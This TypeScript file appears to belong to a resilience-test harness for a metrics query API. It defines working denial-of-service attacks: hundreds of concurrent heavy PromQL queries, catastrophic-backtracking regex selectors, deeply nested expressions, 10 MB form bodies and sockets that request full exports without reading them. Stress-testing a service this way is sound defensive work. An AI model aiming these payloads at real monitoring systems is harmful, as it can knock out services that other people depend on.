/** Questions to the query API that cost much, come in thousands, are larger than anybody reads, or whose answers nobody takes. */
import { Agent, request } from 'undici';
import { type Attack, between, deaf, oneOf, pause, type Random, sent, type Target } from '../attack.ts';

const ALL = '{__name__=~".+"}';
const HEAVY = [
  `sum(rate(${ALL}[1h]))`,
  `sort_desc(count by (__name__, node) (${ALL})) + on (__name__) group_left () count by (__name__) (${ALL})`,
  `max_over_time(sum(${ALL})[1h:1s])`,
  `${'('.repeat(2000)}1${')'.repeat(2000)}`,
  `label_replace(${ALL}, "a", "$1", "node", "(((a*)*)*)*b")`,
];
const SELECTORS = `${`match[]=${encodeURIComponent('{node=~"(a+)+b"}')}&`.repeat(900)}`;

/** What it answers, or that it cut us off, does not matter here. */
async function post({ url }: Target, dispatcher: Agent, path: string, body: string): Promise<void> {
  const headers = { 'content-type': 'application/x-www-form-urlencoded' };
  try {
    const answer = await request(`${url}${path}`, { method: 'POST', headers, body, dispatcher });
    await answer.body.dump();
  } catch {
    // Cut off: that is what the collector is there to do.
  }
}

async function posting(signal: AbortSignal, ask: (dispatcher: Agent) => Promise<unknown>): Promise<void> {
  const dispatcher = new Agent({ connections: 300 });
  const stop = (): void => void dispatcher.destroy();
  signal.addEventListener('abort', stop, { once: true });
  while (!signal.aborted) await ask(dispatcher);
  await dispatcher.destroy();
}

function heavy(random: Random): string {
  const end = Math.floor(Date.now() / 1000);
  return new URLSearchParams({
    query: oneOf(random, HEAVY),
    start: `${end - 10_000}`,
    end: `${end}`,
    step: '1',
  }).toString();
}

export const manyQueries: Attack = {
  name: 'hundreds of heavy questions at once',
  run: (target, random, signal) =>
    posting(signal, (dispatcher) =>
      Promise.all(Array.from({ length: 300 }, () => post(target, dispatcher, '/api/v1/query_range', heavy(random)))),
    ),
};

/** Ten megabytes, and nine hundred selectors that a backtracking engine would not come back from. */
export const largeForms: Attack = {
  name: 'forms of ten megabytes and of many selectors',
  run: (target, _random, signal) =>
    posting(signal, (dispatcher) =>
      Promise.all([
        ...Array.from({ length: 10 }, () =>
          post(target, dispatcher, '/api/v1/query', `query=${'a'.repeat(10_000_000)}`),
        ),
        ...Array.from({ length: 4 }, () => post(target, dispatcher, '/api/v1/series', SELECTORS)),
        post(target, dispatcher, '/api/v1/format_query', `query=${'-('.repeat(100_000)}`),
      ]),
    ),
};

const STREAMS = [
  `/api/v1/export?match[]=${encodeURIComponent(ALL)}`,
  `/federate?match[]=${encodeURIComponent(ALL)}`,
  `/api/v1/query?query=${encodeURIComponent(`${ALL}[1h]`)}`,
  `/api/v1/series?match[]=${encodeURIComponent(ALL)}`,
];

export const unreadStreams: Attack = {
  name: 'exports and large answers that nobody reads',
  async run(target, random, signal) {
    while (!signal.aborted) {
      const sockets = Array.from({ length: between(random, 10, 60) }, () => deaf(target));
      await Promise.all(
        sockets.map((socket) => sent(socket, `GET ${oneOf(random, STREAMS)} HTTP/1.1\r\nhost: localhost\r\n\r\n`)),
      );
      await pause(between(random, 500, 3000), signal);
      for (const socket of sockets) socket.destroy();
    }
  },
};
